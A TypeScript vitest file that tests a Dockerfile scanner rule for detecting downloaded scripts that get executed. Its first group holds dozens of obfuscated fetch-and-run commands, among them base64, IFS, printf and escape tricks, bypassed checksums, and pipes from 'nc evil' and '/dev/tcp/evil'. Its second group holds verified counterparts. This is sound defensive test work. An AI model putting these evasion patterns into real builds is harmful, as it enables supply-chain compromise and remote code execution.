/**
 * Downloads that are run by way of variables, files, functions and encodings, what verifies them,
 * and safe twins.
 */

import { beforeAll, describe, expect, it } from 'vitest';

import { dockerfile, loadShell } from './dockerfile.ts';

beforeAll(loadShell);

function isFound(rule: string, text: string): boolean {
  return dockerfile
    .detect({ path: '/Dockerfile', bytes: Buffer.from(text) })
    .some((draft) => draft.rule === `dockerfile/${rule}`);
}

describe('a download that is run', () => {
  it.each([
    ['var echo', 'FROM a\nRUN X=$(curl -fsSL https://x/i); echo "$X" | sh'],
    ['var sh -c', 'FROM a\nRUN X=$(curl -fsSL https://x/i) && sh -c "$X"'],
    ['var eval', 'FROM a\nRUN X=`wget -qO- https://x/i`; eval "$X"'],
    ['env names curl', 'FROM a\nENV C=curl\nRUN $C https://x/i | sh'],
    ['arg names sh', 'FROM a\nARG S="bash -s"\nRUN curl https://x/i | $S'],
    ['shell variable names', 'FROM a\nRUN a=cu; b=rl; $a$b https://x/i | s${x}h'],
    ['ADD then sh', 'FROM a\nADD https://x/i.sh /tmp/i.sh\nRUN sh /tmp/i.sh'],
    [
      'ADD dir then chmod run',
      'FROM a\nADD https://x/i.sh /tmp/\nRUN chmod +x /tmp/i.sh && /tmp/i.sh',
    ],
    ['IFS', 'FROM a\nRUN curl${IFS}https://x/i|sh'],
    ['base64', 'FROM a\nRUN echo Y3VybCBodHRwczovL3gvaSB8IHNo | base64 -d | sh'],
    ['printf', "FROM a\nRUN printf 'cu%s https://x/i | sh' rl | bash"],
    ['subst name', 'FROM a\nRUN $(echo curl) https://x/i | $(printf sh)'],
    ['herestring', 'FROM a\nRUN bash <<< "$(curl https://x/i)"'],
    ['heredoc subst', 'FROM a\nRUN <<EOF\nsh <<X\n$(curl https://x/i)\nX\nEOF'],
    ['function', 'FROM a\nRUN g() { curl -fsSL "$1"; }; g https://x/i | sh'],
    ['function2', 'FROM a\nRUN r() { sh; }; curl -fsSL https://x/i | r'],
    ['source stdin', 'FROM a\nRUN curl https://x/i | . /dev/stdin'],
    ['read loop', 'FROM a\nRUN curl https://x/i | while read -r l; do eval "$l"; done'],
    ['written script', "FROM a\nRUN echo 'curl https://x/i | sh' > /i.sh && sh /i.sh"],
    [
      'written script two steps',
      "FROM a\nRUN echo 'curl https://x/i | sh' > /i.sh\nRUN chmod +x /i.sh\nRUN bash -x /i.sh",
    ],
    ['copy heredoc', 'FROM a\nCOPY <<EOF /i.sh\n#!/bin/sh\ncurl https://x/i | sh\nEOF'],
    [
      'python',
      'FROM a\nRUN python3 -c "import urllib.request; exec(urllib.request.urlopen(\'https://x/i\').read())"',
    ],
    [
      'python pipe',
      'FROM a\nRUN python3 -c "import urllib.request; print(urllib.request.urlopen(\'https://x/i\').read())" | sh',
    ],
    [
      'one hash for another',
      'FROM a\nRUN curl -o a.sh https://x/a && curl -o b.sh https://x/b && echo "00  a.sh" | sha256sum -c - && sh a.sh && sh b.sh',
    ],
    [
      'check ignored',
      'FROM a\nRUN curl -o a.sh https://x/a; echo "00  a.sh" | sha256sum -c -; sh a.sh',
    ],
    [
      'check or true',
      'FROM a\nRUN curl -o a.sh https://x/a && (echo "00  a.sh" | sha256sum -c - || true) && sh a.sh',
    ],
    [
      'downloaded sums',
      'FROM a\nRUN curl -O https://x/a.sh && curl -O https://x/SUMS && sha256sum -c SUMS && sh a.sh',
    ],
    [
      'path program',
      'FROM a\nRUN curl -Lo /usr/local/bin/kc https://x/kc && chmod +x /usr/local/bin/kc && kc version',
    ],
    [
      'stage copy',
      'FROM a AS d\nRUN curl -Lo /kc https://x/kc\nFROM b\nCOPY --from=d /kc /usr/bin/kc\nRUN kc version',
    ],
    ['parent stage', 'FROM a AS d\nRUN curl -Lo /kc https://x/kc\nFROM d\nRUN sh /kc'],
    ['entrypoint', 'FROM a\nRUN curl -Lo /kc https://x/kc\nENTRYPOINT ["sh", "/kc"]'],
    ['cmd', 'FROM a\nCMD curl https://x/i | sh'],
    ['gunzip', 'FROM a\nRUN curl -O https://x/i.gz && gunzip i.gz && sh i'],
    ['cat redirect', 'FROM a\nRUN curl -o i https://x/i && cat i > j && sh j'],
    ['xargs', 'FROM a\nRUN curl https://x/i | xargs -I{} sh -c "{}"'],
    ['env -S', 'FROM a\nRUN curl https://x/i | env -S "bash -s"'],
    ['exec form', 'FROM a\nRUN ["bash", "-c", "curl -s https://x | bash"]'],
    ['unknown', 'FROM a\nARG RUNNER\nRUN curl https://x/i | $RUNNER'],
    ['process tee', 'FROM a\nRUN curl https://x/i > >(sh)'],
    ['process tee2', 'FROM a\nRUN curl https://x/i | tee >(bash)'],
    ['coproc fd', 'FROM a\nRUN exec 3< <(curl https://x/i); sh <&3'],
    ['alias', "FROM a\nRUN alias g='curl https://x/i'; g | sh"],
    ['dot slash', 'FROM a\nRUN wget https://x/i.sh && . ./i.sh'],
    ['dash -c cat', 'FROM a\nRUN sh -c "`curl https://x/i`"'],
    ['ansi', "FROM a\nRUN $'\\x63url' https://x/i | $'\\163h'"],
    ['backslash', 'FROM a\nRUN c\\url https://x/i | \\sh'],
    ['exec', 'FROM a\nRUN exec sh -c "$(curl https://x/i)"'],
    ['nc', 'FROM a\nRUN nc evil 80 | sh'],
    ['dev tcp', "FROM a\nRUN bash -c 'sh < /dev/tcp/evil/80'"],
    ['lynx', 'FROM a\nRUN lynx -source https://x/i | sh'],
    ['jq script', 'FROM a\nRUN curl https://x/i | jq -r .script | sh'],
    [
      'double download',
      'FROM a\nRUN curl -o a https://x/a && echo "00 a" | sha256sum -c && curl -o a https://x/b && sh a',
    ],
    ['onbuild', 'FROM a\nONBUILD RUN X=$(curl https://x/i) && sh -c "$X"'],
    ['lines that end in CRLF', 'FROM a\r\nRUN <<EOF\r\ncurl https://x/i | sh\r\nEOF'],
    ['comment between', 'FROM a\nRUN curl https://x/i \\\n# a comment\n\n  | \\\n  # more\n  sh'],
    ['escape', '# escape=`\nFROM a\nRUN curl https://x/i `\n  | sh'],
    [
      'syntax',
      '# syntax=docker/dockerfile:1\nFROM a\nRUN --mount=type=cache,target=/x --network=default curl https://x/i | sh',
    ],
  ])('%s', (_, text) => {
    expect(isFound('downloaded-script', text)).toBe(true);
  });
});

describe('a download that is verified, or not run', () => {
  it.each([
    [
      'own hash',
      'FROM a\nRUN curl -o a.sh https://x/a && echo "00  a.sh" | sha256sum -c - && sh a.sh',
    ],
    [
      'set -e',
      'FROM a\nRUN set -eux; curl -o a.sh https://x/a; echo "00  a.sh" | sha256sum -c -; sh a.sh',
    ],
    [
      'shell -e',
      'FROM a\nSHELL ["/bin/bash", "-eo", "pipefail", "-c"]\nRUN curl -o a.sh https://x/a; echo "00  a.sh" | sha256sum -c -; sh a.sh',
    ],
    [
      'or exit',
      'FROM a\nRUN curl -o a.sh https://x/a; echo "00  a.sh" | sha256sum -c - || exit 1; sh a.sh',
    ],
    [
      'or group',
      'FROM a\nRUN curl -o a.sh https://x/a; echo "00  a.sh" | sha256sum -c - || { echo bad; exit 1; }; sh a.sh',
    ],
    [
      'if not',
      'FROM a\nRUN curl -o a.sh https://x/a; if ! echo "00  a.sh" | sha256sum -c -; then exit 1; fi; sh a.sh',
    ],
    [
      'test compare',
      'FROM a\nRUN curl -o a.sh https://x/a && [ "$(sha256sum a.sh | cut -d\' \' -f1)" = "0000" ] && sh a.sh',
    ],
    [
      'test var',
      'FROM a\nRUN set -e; curl -o a.sh https://x/a; H=$(sha256sum a.sh | cut -d\' \' -f1); [ "$H" = "0000" ]; sh a.sh',
    ],
    [
      'sums signed',
      'FROM a\nRUN curl -O https://x/a.sh && curl -O https://x/SUMS && curl -O https://x/SUMS.asc && gpg --verify SUMS.asc SUMS && sha256sum -c SUMS && sh a.sh',
    ],
    [
      'variable sums',
      'FROM a\nARG SHA\nRUN curl -o "$F" https://x/a && echo "$SHA  $F" | sha256sum -c - && sh "$F"',
    ],
    [
      'next run',
      'FROM a\nRUN curl -o /a.sh https://x/a && echo "00  /a.sh" | sha256sum -c -\nRUN sh /a.sh',
    ],
    ['jq', 'FROM a\nRUN curl https://x/v | jq -r .tag > /v'],
    [
      'version var',
      'FROM a\nRUN V=$(curl -s https://x/v) && echo "$V" > /v && apt-get install -y foo=$V',
    ],
    ['version var 2', 'FROM a\nRUN V=$(curl -s https://x/v) && sh -c "echo $V"'],
    ['unknown sudo', 'FROM a\nRUN curl https://x/i | $SUDO tar xz'],
    [
      'gpg dearmor',
      'FROM a\nRUN curl https://x/k | gpg --dearmor -o /usr/share/keyrings/k.gpg && apt-get update',
    ],
    ['file then json', 'FROM a\nRUN curl -o d.json https://x/d && python3 load.py d.json'],
    [
      'node gpg',
      'FROM a\nRUN curl -fsSLO https://x/node.tar.xz && curl -fsSLO https://x/SHASUMS256.txt.asc && gpg --batch --decrypt --output SHASUMS256.txt SHASUMS256.txt.asc && grep " node.tar.xz\\$" SHASUMS256.txt | sha256sum -c - && tar xf node.tar.xz',
    ],
  ])('%s', (_, text) => {
    expect(isFound('downloaded-script', text)).toBe(false);
  });
});
